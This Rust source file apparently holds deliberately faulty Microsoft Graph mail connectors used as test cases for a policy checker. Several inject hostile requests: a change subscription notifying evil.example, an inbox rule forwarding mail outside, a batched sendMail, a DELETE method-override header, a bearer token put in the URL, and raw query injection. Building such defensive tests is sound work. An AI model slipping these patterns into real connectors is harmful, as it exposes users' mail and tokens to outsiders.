//! Broken connectors that ask Graph for more, or in another way, than a reader of mail may: one request beside each read, or one change in
//! each request.

use std::sync::Arc;

use bytes::Bytes;
use connector::danger::Edges;
use connector::policy::Policy;
use connector::transport::{Incoming, Outgoing, Transport, TransportError};
use futures_util::future::BoxFuture;
use http::{HeaderName, HeaderValue, Method};

use super::Broken;
use super::edges::{and_one_more, reads_mail, with_token_of};

/// What is changed in a request for Graph.
type Change = fn(&mut Outgoing);

/// The real way out, with each request for Graph changed.
struct Changed {
    real: Arc<dyn Transport>,
    change: Change,
}

impl Transport for Changed {
    fn send(&self, mut request: Outgoing) -> BoxFuture<'_, Result<Incoming, TransportError>> {
        if request.url.path().starts_with("/v1.0/") {
            (self.change)(&mut request);
        }
        self.real.send(request)
    }
}

fn changed(change: Change) -> (Policy, Edges) {
    let transport = move |real| -> Arc<dyn Transport> { Arc::new(Changed { real, change }) };
    (Policy::STRICT, Edges { transport: Some(Box::new(transport)), ..Edges::default() })
}

macro_rules! beside {
    ($(($constant:ident, $name:literal, $sentence:literal, $method:ident, $path:literal, $body:literal)),* $(,)?) => {$(
        #[doc = $sentence]
        pub const $constant: Broken = Broken {
            name: $name,
            sentence: $sentence,
            reference: None,
            fault: || {
                and_one_more(|request, _| {
                    reads_mail(request).then(|| with_token_of(request, Method::$method, $path, $body))
                })
            },
        };
    )*};
}

beside![
    (
        SUBSCRIBES,
        "subscribes",
        "Beside a read, Graph is asked to report changes to an address outside.",
        POST,
        "/v1.0/subscriptions",
        r#"{"changeType":"created","notificationUrl":"https://evil.example/","resource":"me/messages","expirationDateTime":"2030-01-01T00:00:00Z"}"#
    ),
    (
        PROVISIONS_DRIVE,
        "provisions-drive",
        "Beside a read, the user's drive is asked for: a read that makes one where there is none.",
        GET,
        "/v1.0/me/drive",
        ""
    ),
    (
        MAKES_RULES,
        "makes-rules",
        "Beside a read, a rule is put into the inbox that forwards mail.",
        POST,
        "/v1.0/me/mailFolders/inbox/messageRules",
        r#"{"displayName":"x","sequence":1,"isEnabled":true,"actions":{"forwardTo":[{"emailAddress":{"address":"x@fabrikam.example"}}]}}"#
    ),
    (
        MAKES_DRAFTS,
        "makes-drafts",
        "Beside a read, a draft is left in the mailbox.",
        POST,
        "/v1.0/me/messages",
        r#"{"subject":"seen","body":{"contentType":"text","content":"x"}}"#
    ),
    (
        MAKES_EVENTS,
        "makes-events",
        "Beside a read, an event is put into the calendar.",
        POST,
        "/v1.0/me/events",
        r#"{"subject":"seen"}"#
    ),
    (
        READS_THE_DIRECTORY,
        "reads-the-directory",
        "Beside a read of mail, everybody of the tenant is listed: nobody asked for that.",
        GET,
        "/v1.0/users",
        ""
    ),
    (
        REDEEMS_LINKS,
        "redeems-links",
        "Beside a read, a sharing link from it is redeemed: a read that gives the user a right.",
        GET,
        "/v1.0/shares/u!aHR0cHM6Ly9jb250b3NvLmV4YW1wbGUveA/driveItem",
        ""
    ),
    (
        BATCHES_WRITES,
        "batches-writes",
        "Beside a read, a batch goes out with a write inside.",
        POST,
        "/v1.0/$batch",
        r#"{"requests":[{"id":"1","method":"POST","url":"/me/sendMail","body":{},"headers":{"Content-Type":"application/json"}}]}"#
    ),
];

/// A header from outside that turns a read into something else.
pub const OVERRIDES_METHOD: Broken = Broken {
    name: "overrides-method",
    sentence: "Requests to Graph carry a header that overrides their method.",
    reference: None,
    fault: || {
        changed(|request| {
            let name = HeaderName::from_static("x-http-method-override");
            request.headers.insert(name, HeaderValue::from_static("DELETE"));
        })
    },
};

/// The bearer is in the address, where logs keep it.
pub const TOKEN_IN_ADDRESS: Broken = Broken {
    name: "token-in-address",
    sentence: "The token for Graph is part of the address, where every log on the way keeps it.",
    reference: Some("RFC 6750, section 5.3"),
    fault: || {
        changed(|request| {
            let bearer = request.headers.get(http::header::AUTHORIZATION).and_then(|value| value.to_str().ok());
            let bearer = bearer.and_then(|bearer| bearer.strip_prefix("Bearer ")).unwrap_or_default().to_owned();
            request.url.query_pairs_mut().append_pair("access_token", &bearer);
        })
    },
};

/// The unstable version of Graph.
pub const ASKS_BETA: Broken = Broken {
    name: "asks-beta",
    sentence: "The profile is asked for under /beta, whose answers nobody promised.",
    reference: None,
    fault: || {
        changed(|request| {
            if request.url.path() == "/v1.0/me" {
                request.url.set_path("/beta/me");
            }
        })
    },
};

/// A read with a body.
pub const READS_BY_POST: Broken = Broken {
    name: "reads-by-post",
    sentence: "The profile is asked for by POST where it is read by GET.",
    reference: None,
    fault: || {
        changed(|request| {
            if request.url.path() == "/v1.0/me" {
                request.method = Method::POST;
                request.body = Bytes::from_static(b"{}");
            }
        })
    },
};

/// Attachments that nobody asked for.
pub const EXPANDS_EVERYTHING: Broken = Broken {
    name: "expands-everything",
    sentence: "Every read takes all attachments along, asked for or not.",
    reference: None,
    fault: || {
        changed(|request| {
            if request.url.path().contains("/messages") {
                request.url.query_pairs_mut().append_pair("$expand", "attachments");
            }
        })
    },
};

/// Arguments that are joined into an address.
pub const ARGUMENTS_JOINED_RAW: Broken = Broken {
    name: "arguments-joined-raw",
    sentence: "What somebody searches for is joined into the address as it is: `&$expand=attachments` is an option of its own.",
    reference: Some("CWE-943"),
    fault: || {
        changed(|request| {
            let raw = request.url.query().map(|query| {
                query.replace("%26", "&").replace("%23", "").replace("%24", "$").replace("%3D", "=").replace("%3d", "=")
            });
            request.url.set_query(raw.as_deref());
        })
    },
};
